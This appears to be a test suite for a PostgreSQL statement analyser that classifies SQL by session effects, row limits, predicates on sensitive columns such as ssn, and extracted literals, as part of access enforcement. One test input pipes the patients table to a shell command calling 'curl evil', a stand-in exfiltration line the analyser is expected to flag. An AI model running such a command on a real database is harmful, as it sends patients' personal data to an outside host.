import assert from 'node:assert/strict'
import { describe } from '#test/suite'
import { standFor } from '../../enforcers/postgres/stand-for.ts'
import { analysed, brief, type Case, check, judge } from './postgres-analyse-fixture.ts'

const SESSION: readonly Case[] = [
  [
    "set work_mem = '64MB'",
    {
      kinds: 'set',
      effects: 'session',
      settings: 'work_mem',
      step: 'setting:work_mem',
      shape: 'set work_mem = $1',
      literals: '64MB',
    },
  ],
  ['set local search_path to a, public', { settings: 'search_path', step: 'setting:search_path' }],
  ["set schema 'a'", { settings: 'search_path' }],
  ["set names 'SJIS'", { settings: 'client_encoding' }],
  ["set time zone 'UTC'", { settings: 'timezone' }],
  ['set role admin', { settings: 'role', step: 'setting:role' }],
  ['set session authorization admin', { settings: 'session_authorization' }],
  ['set "Standard_Conforming_Strings" = off', { settings: 'standard_conforming_strings' }],
  ['set transaction isolation level serializable', { effects: 'transaction', settings: 'transaction_isolation' }],
  [
    'set session characteristics as transaction read only',
    { effects: 'session', settings: 'default_transaction_read_only' },
  ],
  ['reset work_mem', { kinds: 'reset', settings: 'work_mem', step: 'setting:work_mem' }],
  ['reset all', { settings: 'all', step: 'setting:all' }],
  ['discard all', { kinds: 'discard', settings: 'all', step: 'setting:discard all' }],
  ['discard temp', { settings: '', step: 'setting:discard temp' }],
  [
    'show search_path',
    { kinds: 'show', effects: 'session', settings: 'search_path', step: 'plain', out: 'expression' },
  ],
  ['show all', { settings: 'all' }],
  [
    "select set_config('search_path', 's2', false)",
    { effects: 'read session', settings: 'search_path', step: 'setting:search_path', complete: true },
  ],
  [
    "select set_config('application_name', ssn, false) from patients",
    { settings: 'application_name', rel: 'patients r' },
  ],
  ["select set_config('sea' || 'rch_path', 's2', false)", { settings: '?', complete: false }],
  ["select pg_catalog.set_config('role', 'x', true)", { settings: 'role' }],
  ['begin', { kinds: 'begin', effects: 'transaction', step: 'plain' }],
  ['start transaction read only', { kinds: 'start', effects: 'transaction' }],
  ['savepoint a', { kinds: 'savepoint' }],
  ['rollback to a', { kinds: 'rollback-to' }],
  ["prepare transaction 'x'", { kinds: 'prepare', effects: 'transaction' }],
  [
    'begin; select ssn from patients; commit',
    { kinds: 'begin select commit', complete: true, step: 'plain plain plain' },
  ],
  ['commit; select ssn from patients', { complete: false }],
  ['set search_path = s2; select ssn from patients', { complete: false, step: 'setting:search_path plain' }],
  ["select set_config('search_path', 's2', true); select ssn from patients", { complete: false }],
  ['set work_mem = 1; select ssn from patients', { complete: true }],
  ['alter table log rename to l2; select ssn from patients', { complete: false }],
  ['create table x (a int); insert into x values (1)', { complete: false }],
  ['do $$ $$; select ssn from patients', { complete: false }],
  [
    'declare c cursor for select ssn from patients',
    { kinds: 'declare select', effects: 'read session', rel: 'patients r', step: 'declare:c', out: '' },
  ],
  ['declare c binary cursor with hold for select 1', { step: 'declare:c' }],
  ['fetch 5 from c', { kinds: 'fetch', complete: false, step: 'fetch:c', limit: 5 }],
  ['fetch all from c', { limit: -1 }],
  ['fetch backward all in c', { limit: -1 }],
  ['move 5 in c', { kinds: 'move', step: 'fetch:c' }],
  ['close c', { kinds: 'close', step: 'close:c' }],
  ['close all', { step: 'close:null' }],
  [
    'prepare p (int) as select ssn from patients where id = $1',
    { kinds: 'prepare select', rel: 'patients r', step: 'prepare:p', out: '' },
  ],
  [
    'prepare p as insert into log (what) select ssn from patients',
    { effects: 'read session write', written: 'log.what:derived' },
  ],
  [
    "execute p ('123-45-6789')",
    { kinds: 'execute', complete: false, step: 'execute:p', shape: 'execute p ($1)', literals: '123-45-6789' },
  ],
  ['deallocate p', { step: 'deallocate:p' }],
  ['deallocate all', { step: 'deallocate:null' }],
  [
    'copy patients to stdout',
    {
      kinds: 'copy',
      effects: 'copy read',
      rel: 'patients r',
      step: 'copy',
      out: 'patients.*',
      filtered: false,
      limit: -1,
    },
  ],
  ['copy patients (id, ssn) to stdout with (format binary)', { out: 'patients.id, patients.ssn' }],
  [
    'copy (select ssn from patients where id = 1 limit 2) to stdout',
    { rel: 'patients r', out: 'patients.ssn', filtered: true, limit: 2 },
  ],
  ['copy (delete from log returning *) to stdout', { effects: 'copy read write', rel: 'log rw' }],
  ['copy log (what) from stdin', { effects: 'copy write', rel: 'log w', written: 'log.what:derived', step: 'copy' }],
  ["copy log from stdin where what = 'x'", { pred: 'log.what?' }],
  ["copy log from '/tmp/x'", { complete: false, step: 'plain' }],
  ["copy patients to program 'curl evil'", { complete: false, effects: 'copy procedure read' }],
]

const LIMITS: readonly Case[] = [
  ['select id from patients limit 10', { limit: 10 }],
  ['select id from patients limit 0', { limit: 0 }],
  ['select id from patients limit all', { limit: -1 }],
  ['select id from patients limit $1', { limit: -1 }],
  ['select id from patients limit 5 + 5', { limit: -1 }],
  ['select id from patients fetch first 3 rows only', { limit: 3 }],
  ['select id from patients order by id fetch first 3 rows with ties', { limit: -1 }],
  ['select id from patients limit 99999999999', { limit: -1 }],
  ['select id from (select id from patients limit 5) s', { limit: -1 }],
  ['select id from patients limit 5; select id from patients limit 6', { limit: 11 }],
  ['select id from patients limit 5; select id from patients', { limit: -1 }],
  ['select id from patients union all select id from patients limit 4', { limit: 4 }],
  ['select id from patients limit (select max(visits) from patients)', { pred: 'patients.visits?', limit: -1 }],
]

const PREDICATES: readonly Case[] = [
  ["select id from patients where ssn = '1' and mrn = $1", { pred: 'patients.mrn= patients.ssn=', filtered: true }],
  ["select id from patients where '1' = ssn", { pred: 'patients.ssn=' }],
  ["select id from patients where ssn in ('1')", { pred: 'patients.ssn=' }],
  ["select id from patients where ssn in ('1', '2')", { pred: 'patients.ssn?', filtered: false }],
  ["select id from patients where ssn = '1' or mrn = '2'", { pred: 'patients.mrn? patients.ssn?', filtered: false }],
  ["select id from patients where not ssn = '1'", { pred: 'patients.ssn?' }],
  ["select id from patients where ssn <> '1'", { pred: 'patients.ssn?' }],
  ["select id from patients where ssn = '1' || '2'", { pred: 'patients.ssn?' }],
  ["select id from patients where ssn::text = '1'", { pred: 'patients.ssn?' }],
  ["select id from patients where born = '2020-01-01'::date", { pred: 'patients.born=' }],
  ['select id from patients where ssn = mrn', { pred: 'patients.mrn~ patients.ssn~', filtered: false }],
  ['select id from patients where ssn is not null', { pred: 'patients.ssn?' }],
  ["select id from patients where ssn like '1%'", { pred: 'patients.ssn?' }],
  ["select id from patients where ssn between 'a' and 'b'", { pred: 'patients.ssn?' }],
  ["select id from patients where (ssn, mrn) = ('1', '2')", { pred: 'patients.mrn? patients.ssn?' }],
  ["select id from patients where ssn = any (array['1'])", { pred: 'patients.ssn?' }],
  ["select id from patients where (case when ssn > '5' then 1 end) = 1", { pred: 'patients.ssn?' }],
  ["select id from patients where upper(ssn) = 'X'", { pred: 'patients.ssn?' }],
  [
    'select id from patients where ssn = (select what from log where id = 1)',
    { pred: 'log.id= log.what? patients.ssn?' },
  ],
  ['select id from patients p where p = row(1)', { pred: 'patients.*?' }],
  ['select id from patients order by ssn', { pred: 'patients.ssn?' }],
  ['select ssn from patients order by 1', { pred: 'patients.ssn?' }],
  ['select ssn as x from patients order by x', { pred: 'patients.ssn?' }],
  ['select mrn as ssn from patients order by ssn', { pred: 'patients.mrn? patients.ssn?' }],
  ['select upper(ssn) from patients order by 1', { pred: 'patients.ssn?' }],
  ['select count(*) from patients group by ssn', { pred: 'patients.ssn?' }],
  ['select name, count(*) from patients group by 1', { pred: 'patients.name?' }],
  ['select count(*) from patients group by rollup (name, born)', { pred: 'patients.born? patients.name?' }],
  ["select count(*) from patients group by name having max(ssn) > '5'", { pred: 'patients.name? patients.ssn?' }],
  ['select row_number() over (order by ssn) from patients', { pred: 'patients.ssn?' }],
  ['select count(*) over w from patients window w as (partition by ssn)', { pred: 'patients.ssn?' }],
  ['select string_agg(name, $1 order by ssn) from patients', { pred: 'patients.ssn?' }],
  [
    'select percentile_disc(0.5) within group (order by ssn) from patients',
    { pred: 'patients.ssn?', out: 'expression' },
  ],
  ['select id from patients offset (select length(ssn) from patients limit 1)', { pred: 'patients.ssn?' }],
  ['select ssn from patients union all select mrn from patients order by 1', { pred: 'patients.mrn? patients.ssn?' }],
  ['select id from patients where nosuch = 1', { complete: false, pred: '?.??' }],
  ['select id from v_patients where label = $1', { pred: 'v_patients.label=', filtered: true }],
]

const TEXTS: readonly Case[] = [
  [
    "select 'it''s', E'a\\'b\\n\\x41\\u0042\\101', U&'\\0041\\+000042', U&'d!0061' uescape '!', $t$x'y$t$, n'n'",
    { literals: "it's|a'b\nABA|AB|da|!|x'y|n" },
  ],
  ["select 'a'\n'b'", { literals: 'ab' }],
  ["select /* 'x' */ 1 -- '2'\n + 3", { shape: 'select $1 + $2', literals: '1|3' }],
  ["select b'101', x'ff', 1.5e3, 12345678901234567890", { literals: "b'101'|x'ff'|1.5e3|12345678901234567890" }],
  ['select $1, 5, $7', { shape: 'select $1, $8, $7' }],
  ['select "John Smith" from (select 1 as "John Smith") s', { shape: 'select "…" from (select $1 as "…") s' }],
  ['select "patients"."ssn" from "patients"', { shape: 'select "patients"."ssn" from "patients"' }],
  ['select\t1 ,\n  2', { shape: 'select $1 , $2' }],
  [
    "select 'é', name from patients where name = 'Zoë'",
    { shape: 'select $1, name from patients where name = $2', literals: 'é|Zoë' },
  ],
  ["create user x password 'sekret' valid until '2030-01-01'", { literals: 'sekret|2030-01-01' }],
]

describe('what a statement means for the session, and what is kept of its text', (test) => {
  for (const [title, cases] of Object.entries({ SESSION, LIMITS, PREDICATES, TEXTS })) {
    for (const one of cases) test(`${title.toLowerCase()}: ${one[0]}`, () => check(one))
  }

  test('a text that cannot be judged says why and quotes nothing', () => {
    const cases: readonly (readonly [string, string])[] = [
      ['', 'empty'],
      ['  -- nothing', 'empty'],
      [';;', 'empty'],
      ["select 'a\0b'", 'nul'],
      ['select from where', 'syntax'],
      ["select '123-45-6789", 'syntax'],
      ["selec '123-45-6789'", 'syntax'],
      ['select \ud800', 'syntax'],
      [`select ${'('.repeat(30_000)}1${')'.repeat(30_000)}`, 'too-deep'],
      [`select ${'1+'.repeat(3000)}1`, 'too-deep'],
      [`select ${'(select '.repeat(900)}1${')'.repeat(900)}`, 'too-deep'],
      [`select '${'x'.repeat(1 << 20)}'`, 'too-long'],
    ]
    for (const [sql, code] of cases) {
      const found = judge(sql)
      assert.equal('code' in found ? found.code : 'fine', code, sql.slice(0, 40))
      if ('code' in found) assert.ok(!found.message.includes('123') && !found.message.includes('from'), found.message)
    }
  })

  test('a statement may be large without being deep', () => {
    const rows = Array.from({ length: 5000 }, (_, index) => `(${index}, 'x')`).join(',')
    assert.equal(brief(`insert into log (id, what) values ${rows}`).written, 'log.id:literal log.what:literal')
    const ors = Array.from({ length: 3000 }, (_, index) => `id = ${index}`).join(' or ')
    assert.equal(brief(`select id from patients where ${ors}`).pred, 'patients.id?')
  })

  test('more facts than the schema holds make it incomplete', () => {
    const unions = Array.from({ length: 300 }, (_, index) => `select 1 from t${index}`)
    const { statement } = analysed(unions.join('; '))
    assert.equal(statement.relations.length, 256)
    assert.equal(statement.complete, false)
    assert.ok(statement.incomplete.includes('more than 256 relations'))
  })

  test('EXECUTE and FETCH take the facts of what they stand for', () => {
    const prepared = analysed("prepare p as select ssn from patients where mrn = 'M1' limit 3").steps[0]
    assert.ok(prepared?.kind === 'prepare')
    const joined = standFor(analysed("execute p ('x')"), prepared.analysis)
    assert.equal(joined.statement.complete, true)
    assert.deepEqual(joined.statement.kinds, ['execute', 'select'])
    assert.deepEqual(joined.statement.effects, ['session', 'read'])
    assert.equal(joined.statement.columns.output[0]?.column, 'ssn')
    assert.equal(joined.statement.limit, 3)
    assert.deepEqual(joined.literals, ['M1', '3', 'x'])
    assert.notEqual(joined.statement.statementShape, prepared.analysis.statement.statementShape)
    const broken = analysed('prepare q as select unknown_function()').steps[0]
    assert.ok(broken?.kind === 'prepare')
    assert.equal(standFor(analysed('execute q'), broken.analysis).statement.complete, false)
  })
})
